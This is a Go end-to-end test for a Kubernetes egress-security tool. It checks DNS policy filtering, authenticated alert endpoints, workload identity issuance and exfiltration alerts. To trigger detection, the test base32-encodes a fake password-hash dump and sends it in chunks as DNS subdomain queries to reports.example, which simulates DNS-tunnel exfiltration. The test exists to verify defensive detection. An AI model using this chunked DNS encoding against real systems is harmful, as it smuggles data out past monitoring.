package e2e

import (
	"context"
	"encoding/base32"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/kordon-dev/kordon/internal/kube"
	"github.com/miekg/dns"
	"github.com/spiffe/go-spiffe/v2/workloadapi"
	authnv1 "k8s.io/api/authentication/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
)

// buildKordon compiles the binary under test.
func buildKordon(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "kordon")
	out, err := exec.Command("go", "build", "-o", bin, "../cmd/kordon").CombinedOutput()
	if err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	return bin
}

func writeKubeconfig(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "kubeconfig")
	cfg := fmt.Sprintf(`apiVersion: v1
kind: Config
clusters: [{name: e2e, cluster: {server: %q, insecure-skip-tls-verify: true}}]
users: [{name: admin, user: {token: %q}}]
contexts: [{name: e2e, context: {cluster: e2e, user: admin}}]
current-context: e2e
`, cluster.URL, cluster.AdminToken)
	if err := os.WriteFile(path, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func freeAddr(t *testing.T) string {
	t.Helper()
	p, err := freePort()
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("127.0.0.1:%d", p)
}

// startProcess runs the binary and stops it at the end of the test.
func startProcess(t *testing.T, bin string, args ...string) *syncBuffer {
	t.Helper()
	_, out := startProcessCmd(t, bin, args...)
	return out
}

// startProcessCmd is startProcess that also returns the command (to kill
// it before the end of the test).
func startProcessCmd(t *testing.T, bin string, args ...string) (*exec.Cmd, *syncBuffer) {
	t.Helper()
	var out syncBuffer
	cmd := exec.Command(bin, args...)
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cmd.Process.Signal(os.Interrupt)
		done := make(chan struct{})
		go func() { cmd.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			cmd.Process.Kill()
			<-done
		}
		if t.Failed() {
			t.Logf("%s output:\n%s", args[0], out.String())
		}
	})
	return cmd, &out
}

func waitReady(t *testing.T, url string) {
	t.Helper()
	eventually(t, 60*time.Second, url+" ready", func() bool {
		resp, err := http.Get(url)
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == http.StatusOK
	})
}

// TestControllerAndNodeAgent runs the real binaries against the API
// server: the controller elects itself, writes policy status and serves
// the alert feed; the node agent filters DNS for the pods of its node by
// the EgressPolicies in the API, detects an exfiltration, and forwards
// the alert to the controller's feed.
func TestControllerAndNodeAgent(t *testing.T) {
	bin := buildKordon(t)
	kubeconfig := writeKubeconfig(t)
	sysNS := newNamespace(t)
	ctrlHTTP, ctrlIssuance, ctrlFeed := freeAddr(t), freeAddr(t), freeAddr(t)
	ctrlSIEM, nodeSIEM := startSyslogReceiver(t), startSyslogReceiver(t)
	startProcess(t, bin, "controller", "--kubeconfig", kubeconfig, "--namespace", sysNS, "--root-namespace", sysNS,
		"--xds-listen", "127.0.0.1:0", "--issuance-listen", ctrlIssuance, "--http-listen", ctrlHTTP, "--feed-listen", ctrlFeed,
		"--alerts-dir", t.TempDir(), "--pod-name", "controller-0", "--syslog", "tcp://"+ctrlSIEM.addr)
	waitReady(t, "http://"+ctrlHTTP+"/readyz")

	ns := newNamespace(t)
	createPolicy(t, kube.AuthorizationPolicyGVR, ns, fmt.Sprintf("apiVersion: security.kordon.dev/v1\nkind: AuthorizationPolicy\nmetadata: {name: p, namespace: %s}\nspec:\n  rules: [{}]\n", ns))
	eventually(t, 40*time.Second, "policy status written by the leader", func() bool {
		u, err := clients.Dynamic.Resource(kube.AuthorizationPolicyGVR).Namespace(ns).Get(context.Background(), "p", metav1.GetOptions{})
		if err != nil {
			return false
		}
		conds, _, _ := unstructured.NestedSlice(u.Object, "status", "conditions")
		return len(conds) == 1 && conds[0].(map[string]any)["status"] == "True"
	})

	worker := createPod(t, ns, "worker-1", "worker", "node-e2e", "127.0.0.91", map[string]string{"app": "worker"})
	// The node agent's own pod and its pod-bound token (audience kordon).
	agentPod := createPod(t, sysNS, "kordon-node-e2e", "kordon-node", "node-e2e", "10.9.0.1", nil)
	tr, err := clients.Kube.CoreV1().ServiceAccounts(sysNS).CreateToken(context.Background(), "kordon-node", &authnv1.TokenRequest{Spec: authnv1.TokenRequestSpec{
		Audiences: []string{"kordon"}, BoundObjectRef: &authnv1.BoundObjectReference{Kind: "Pod", APIVersion: "v1", Name: agentPod.Name, UID: agentPod.UID},
	}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	stateDir := t.TempDir()
	tokenFile := filepath.Join(stateDir, "token")
	if err := os.WriteFile(tokenFile, []byte(tr.Status.Token), 0o600); err != nil {
		t.Fatal(err)
	}
	// A fake procfs maps this test process to the worker pod's cgroup, as
	// the kubelet would lay it out, so the agent attests us as worker-1.
	procRoot := filepath.Join(stateDir, "proc")
	me := filepath.Join(procRoot, fmt.Sprint(os.Getpid()))
	os.MkdirAll(me, 0o755)
	cg := fmt.Sprintf("0::/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod%s.slice/cri-containerd-%064x.scope\n", strings.ReplaceAll(string(worker.UID), "-", "_"), 1)
	if err := os.WriteFile(filepath.Join(me, "cgroup"), []byte(cg), 0o644); err != nil {
		t.Fatal(err)
	}
	socket := filepath.Join(stateDir, "agent.sock")
	createPolicy(t, kube.EgressPolicyGVR, ns, fmt.Sprintf(`apiVersion: security.kordon.dev/v1
kind: EgressPolicy
metadata: {name: worker, namespace: %s}
spec:
  selector: {matchLabels: {app: worker}}
  allow: ["*.reports.example"]
  detection: {sensitivity: High, action: Alert}
`, ns))
	upstream := startUpstream(t)
	dnsAddr, nodeHTTP := freeAddr(t), freeAddr(t)
	startProcess(t, bin, "node", "--kubeconfig", kubeconfig, "--node", "node-e2e", "--dns-listen", dnsAddr, "--upstream", upstream,
		"--http-listen", nodeHTTP, "--state-dir", t.TempDir(), "--root-namespace", sysNS, "--query-log", "",
		"--workload-api-socket", socket, "--token-file", tokenFile, "--controller-issuance", ctrlIssuance, "--namespace", sysNS, "--proc-root", procRoot,
		"--syslog", "tcp://"+nodeSIEM.addr)
	waitReady(t, "http://"+nodeHTTP+"/readyz")
	// The agent's own alert and quarantine routes need a token too
	// (hostNetwork pods share its loopback); probes stay open.
	for _, tc := range []struct {
		method, path, token string
		want                int
	}{
		{http.MethodGet, "/v1/alerts", "", http.StatusUnauthorized},
		{http.MethodDelete, "/v1/quarantines/x", "", http.StatusUnauthorized},
		{http.MethodGet, "/v1/quarantines", cluster.AdminToken, http.StatusOK},
		{http.MethodGet, "/healthz", "", http.StatusOK},
	} {
		req, _ := http.NewRequest(tc.method, "http://"+nodeHTTP+tc.path, nil)
		if tc.token != "" {
			req.Header.Set("Authorization", "Bearer "+tc.token)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != tc.want {
			t.Fatalf("node agent %s %s: %d, want %d", tc.method, tc.path, resp.StatusCode, tc.want)
		}
	}

	query := func(name string) *dns.Msg {
		m := new(dns.Msg)
		m.SetQuestion(name, dns.TypeA)
		c := &dns.Client{Timeout: 3 * time.Second, Dialer: &net.Dialer{LocalAddr: &net.UDPAddr{IP: net.ParseIP("127.0.0.91")}}}
		r, _, err := c.Exchange(m, dnsAddr)
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	// The policy may reach the agent a moment after it starts.
	eventually(t, 20*time.Second, "egress policy enforced for the pod", func() bool { return query("github.com.").Rcode == dns.RcodeNameError })
	if r := query("q1.reports.example."); r.Rcode != dns.RcodeSuccess {
		t.Fatalf("allowed name: %s", dns.RcodeToString[r.Rcode])
	}
	enc := strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString([]byte(strings.Repeat("db-dump:users:password-hash;", 60))), "="))
	for i := 0; i < 30 && (i+1)*50 <= len(enc); i++ {
		query(fmt.Sprintf("%s.%d.reports.example.", enc[i*50:(i+1)*50], i))
	}
	// The Workload API on the node serves the worker its SVID, fetched from
	// the controller with the agent's token; go-spiffe's client is the peer.
	wctx, wcancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer wcancel()
	src, err := workloadapi.NewX509Source(wctx, workloadapi.WithClientOptions(workloadapi.WithAddr("unix://"+socket)))
	if err != nil {
		t.Fatalf("workload API: %v", err)
	}
	svid, err := src.GetX509SVID()
	src.Close()
	if err != nil || svid.ID.String() != "spiffe://cluster.local/ns/"+ns+"/sa/worker" {
		t.Fatalf("SVID from the node agent: %v %v", svid, err)
	}

	// The cluster feed is authenticated too: nothing without a token.
	feed := feedClient(t, sysNS, nil)
	if resp, err := feed.Get("https://" + ctrlFeed + "/v1/alerts"); err != nil || resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("unauthenticated GET of the cluster feed: %v %v", resp, err)
	} else {
		resp.Body.Close()
	}
	eventually(t, 30*time.Second, "the exfiltration alert forwarded to the controller", func() bool {
		req, _ := http.NewRequest(http.MethodGet, "https://"+ctrlFeed+"/v1/alerts?kind=exfiltration", nil)
		req.Header.Set("Authorization", "Bearer "+cluster.AdminToken)
		resp, err := feed.Do(req)
		if err != nil {
			return false
		}
		defer resp.Body.Close()
		var body struct {
			Alerts []struct{ Namespace, Pod, Domain, Node string }
		}
		json.NewDecoder(resp.Body).Decode(&body)
		for _, a := range body.Alerts {
			if a.Namespace == ns && a.Pod == "worker-1" && a.Domain == "reports.example" && a.Node == "node-e2e" {
				return true
			}
		}
		return false
	})
	// Both the node agent's feed and the controller's leader (cluster
	// alerts) send it to their SIEM as RFC 5424 syslog.
	for _, r := range []*syslogReceiver{nodeSIEM, ctrlSIEM} {
		r.waitFor(t, "the alert over syslog", " kordon - exfiltration [kordon@32473 ", `namespace="`+ns+`"`, `pod="worker-1"`, `domain="reports.example"`)
	}
	eventually(t, 30*time.Second, "a Warning Event on the offending pod", func() bool {
		for _, r := range podEventReasons(t, ns, "worker-1") {
			if r == "DNSExfiltration" {
				return true
			}
		}
		return false
	})
}

// podEventReasons lists the reasons of Events about a pod.
func podEventReasons(t *testing.T, ns, pod string) []string {
	t.Helper()
	evs, err := clients.Kube.CoreV1().Events(ns).List(context.Background(), metav1.ListOptions{FieldSelector: "involvedObject.name=" + pod})
	if err != nil {
		return nil
	}
	var out []string
	for _, e := range evs.Items {
		out = append(out, e.Reason)
	}
	return out
}
